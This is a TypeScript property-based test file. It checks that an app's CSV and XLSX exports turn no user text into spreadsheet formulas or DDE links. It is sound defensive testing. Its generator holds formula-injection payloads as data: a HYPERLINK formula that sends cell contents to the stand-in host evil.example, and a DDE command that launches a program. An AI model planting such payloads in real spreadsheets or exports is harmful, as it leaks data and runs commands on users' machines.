import fc from "fast-check";
import { strFromU8, unzipSync } from "fflate";
import papa from "papaparse";
import { expect, test } from "vitest";
import { graphFormats } from "../../../../src/io/export/graphFormats.ts";
import { templateWorkbook } from "../../../../src/io/export/templateWorkbook.ts";
import { loadMessages } from "../../../../src/i18n/messages.ts";
import { graphSaying } from "../../../fixtures/graphSaying.ts";

/** What a spreadsheet would run, or send somewhere. */
const attack = fc
  .tuple(
    fc.constantFrom("=", "+", "-", "@", "＝", "\t=", "\r=", " =", "\u200b="),
    fc.constantFrom('HYPERLINK("https://evil.example/?"&A1)', "1+1", "cmd|'/c calc'!A0", "SUM(1)"),
  )
  .map(([sign, rest]) => sign + rest);

/** Cells of CSV that a program runs, and formulas of workbooks. */
function formulasIn(name: string, text: string): readonly string[] {
  if (name.endsWith(".csv"))
    return papa
      .parse<string[]>(text.replace(/^\uFEFF/u, ""), { delimiter: "," })
      .data.flat()
      .filter(
        (cell) => /^[\s\p{C}]*[=+@-]/u.test(cell.normalize("NFKC")) && Number.isNaN(Number(cell)),
      );
  return [...text.matchAll(/<f\b[^>]*>[\s\S]*?<\/f>|<ddeLink\b/gu)].map(([found]) => found);
}

function filesIn(bytes: Uint8Array): readonly (readonly [string, string])[] {
  return Object.entries(unzipSync(bytes)).map(([name, content]) => [name, strFromU8(content)]);
}

const packed = graphFormats.filter(({ id }) => id === "csv" || id === "xlsx");

test.each(packed.map((one) => [one.id, one] as const))(
  "no text of anybody becomes a formula in %s",
  async (_, { load }) => {
    await loadMessages("en");
    const write = await load();
    await fc.assert(
      fc.asyncProperty(attack, async (text) => {
        const bytes = await write(graphSaying(text), { language: "en" });
        const files = filesIn(bytes);
        expect(files.flatMap((file) => formulasIn(...file))).toEqual([]);
        // It is there all the same.
        expect(files.some(([, content]) => content.includes(text.slice(-3)))).toBe(true);
      }),
      { numRuns: 20 },
    );
  },
);

test("the spreadsheet to begin with has no formula", async () => {
  await loadMessages("en");
  const files = filesIn(await templateWorkbook("en"));
  expect(files.flatMap((file) => formulasIn(...file))).toEqual([]);
});
